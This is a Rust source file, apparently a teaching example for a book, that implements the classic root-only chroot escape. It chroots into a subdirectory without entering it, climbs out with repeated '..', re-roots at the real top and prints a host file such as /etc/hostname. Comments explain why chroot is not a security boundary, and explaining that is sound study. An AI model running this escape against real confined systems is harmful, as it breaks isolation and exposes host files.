//! breakout: escape a chroot, as root, and print a file of the host.
//!
//! chroot(2) changes what `/` means for path lookups, and nothing else. The kernel stops
//! `..` only at the process's root directory; a process whose current directory is
//! *outside* its root walks up past it without ever meeting it. So: chroot into a
//! subdirectory without entering it, climb, and make wherever we end up the root.
//!
//! Built as a static program (see build.rs) so it runs inside a root filesystem that
//! has no C library. Only the standard library: this file is the whole program.

use std::env;
use std::fs;
use std::os::unix::fs::{chroot, MetadataExt};
use std::process::exit;

// ANCHOR: breakout
fn main() {
    let host_file = env::args().nth(1).unwrap_or_else(|| "/etc/hostname".to_string());
    let root_before = identity("/");

    // 1. A directory inside our root; chroot into it but stay where we are,
    //    so the current directory is now outside the root.
    fs::create_dir_all("/.breakout").unwrap_or_else(|e| fail(&format!("mkdir /.breakout: {e}")));
    chroot("/.breakout").unwrap_or_else(|e| fail(&format!("chroot /.breakout: {e} (breakout needs root)")));
    let _ = fs::remove_dir(".breakout"); // tidy up: we still stand where it was made

    // 2. Walk up. Nothing stops us: our root is below us, not above.
    for _ in 0..256 {
        let _ = env::set_current_dir("..");
    }

    // 3. We stand at the real top of the mount namespace. Make it our root.
    chroot(".").unwrap_or_else(|e| fail(&format!("chroot .: {e}")));

    // Did `/` change? Same device and inode: we climbed back to where we started.
    if identity("/") == root_before {
        fail("the climb ended at our own root: no way out of this root filesystem");
    }
    match fs::read_to_string(&host_file) {
        Ok(text) => print!("escaped! {host_file} says: {text}"),
        Err(e) => fail(&format!("escaped to another root, but cannot read {host_file}: {e}")),
    }
}
// ANCHOR_END: breakout

/// The (device, inode) pair that names a directory.
fn identity(path: &str) -> (u64, u64) {
    let meta = fs::metadata(path).unwrap_or_else(|e| fail(&format!("stat {path}: {e}")));
    (meta.dev(), meta.ino())
}

fn fail(message: &str) -> ! {
    eprintln!("breakout failed: {message}");
    exit(1)
}
